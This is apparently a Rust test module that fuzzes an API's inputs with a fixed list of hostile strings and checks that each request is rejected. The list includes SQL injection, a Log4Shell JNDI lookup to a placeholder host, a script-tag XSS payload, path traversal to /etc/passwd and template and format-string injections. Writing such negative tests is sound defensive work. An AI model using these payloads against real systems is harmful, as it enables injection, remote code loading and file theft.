//! Hostile texts, and requests that contain them where they must be rejected.

use reqwest::Method;
use serde_json::{Map, Value, json};
use testkit::world::{self, Authored};

use crate::request::Request;
use crate::surface::{Operation, Surface, Tenant};

/// None of them is a valid id, number, field name or FHIR resource type, and none contains an internal word.
pub(crate) const HOSTILE: [&str; 24] = [
    "'",
    "\"",
    "' or '1'='1",
    "'; drop table keys; --",
    "1); --",
    "$1",
    "?1",
    "%s%n%x",
    "%00",
    "{}",
    "{{7*7}}",
    "{{entity.",
    "${jndi:ldap://a.example/x}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "C:\\Windows\\win.ini",
    "file:///etc/passwd",
    "a\nb",
    "\u{202e}abc",
    "\u{feff}",
    "\u{1f600}",
    "\\u0000",
    "(((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((a+)+)+$",
    "[",
];

/// In every field of a body: as its value, in a list, as a key, and as an unknown field.
pub(crate) fn in_bodies(surface: &Surface, operation: &Operation, schema: &Value, own: &Tenant) -> Vec<Request> {
    let valid = surface.sample(schema, own, 0);
    let properties = schema["properties"].as_object().into_iter().flatten().map(|(name, _)| name);
    let mut bodies: Vec<Value> = HOSTILE.into_iter().map(|text| with(&valid, text, json!(1))).collect();
    for property in properties {
        for text in HOSTILE {
            let values = [json!(text), json!([text]), json!({text: text})];
            bodies.extend(values.into_iter().map(|value| with(&valid, property, value)));
        }
    }
    let refused = bodies.iter().filter(|body| !surface.contract.accepts(schema, body));
    refused.map(|body| Request::new(operation.method.clone(), operation.path_of(own)).json(body)).collect()
}

/// In every field of an example of every check and every simulator's config.
pub(crate) fn in_catalogues(made: &Authored) -> Vec<Request> {
    let mut requests = Vec::new();
    for check in verify::catalog() {
        let example: Value = serde_json::from_str(check.example).unwrap();
        for assertion in with_hostile_texts(&example).into_iter().filter(|assertion| verify::parse(assertion).is_err())
        {
            requests.push(Request::post("/criteria", &with(&world::criterion(&made.task), "assertion", assertion)));
        }
    }
    for simulator in sims::catalog() {
        let refused = |config: &Value| simulator.validate_config(config).is_err();
        for config in with_hostile_texts(&simulator.example_config()).into_iter().filter(refused) {
            let body = json!({"type": simulator.kind.name(), "name": "x", "config": config});
            requests.push(Request::post("/simulators", &body));
        }
    }
    requests
}

fn with_hostile_texts(example: &Value) -> Vec<Value> {
    let members = example.as_object().into_iter().flat_map(Map::keys);
    let spoil = |member: &String| HOSTILE.map(|text| with(example, member, json!([{text: text}])));
    members.flat_map(spoil).collect()
}

/// As every path parameter, and as a filter, limit, cursor and unknown parameter of every list.
pub(crate) fn in_addresses(surface: &Surface, own: &Tenant) -> Vec<Request> {
    let mut requests = Vec::new();
    for operation in surface.internal() {
        let encoded = HOSTILE.map(encoded);
        if !operation.variables().is_empty() {
            let paths = encoded.iter().map(|text| operation.path(|_| text.clone()));
            requests.extend(paths.map(|path| Request::new(operation.method.clone(), path).json(&json!({}))));
        }
        if operation.is_list() {
            let path = operation.path_of(own);
            let queries = encoded
                .iter()
                .flat_map(|text| [format!("limit={text}"), format!("cursor={text}"), format!("{text}=1")]);
            requests.extend(queries.map(|query| Request::get(format!("{path}?{query}"))));
        }
    }
    requests
}

/// In an upload after a valid resource: as a resource, its type, its id and a field, in either format.
pub(crate) fn in_uploads(made: &Authored) -> Vec<Request> {
    let mut requests = Vec::new();
    for text in HOSTILE {
        let resources = [
            text.to_owned(),
            json!({"resourceType": text, "id": "x"}).to_string(),
            json!({"resourceType": "Patient", "id": text}).to_string(),
            json!({text: text}).to_string(),
        ];
        for resource in resources {
            for media in ["application/fhir+ndjson", "application/fhir+json"] {
                let upload = Request::new(Method::PUT, format!("/datasets/{}/data", made.dataset));
                requests.push(upload.content(media, format!("{}{resource}", world::patients(1))));
            }
        }
    }
    requests
}

fn with(body: &Value, member: &str, value: Value) -> Value {
    let mut body = body.clone();
    body[member] = value;
    body
}

fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}
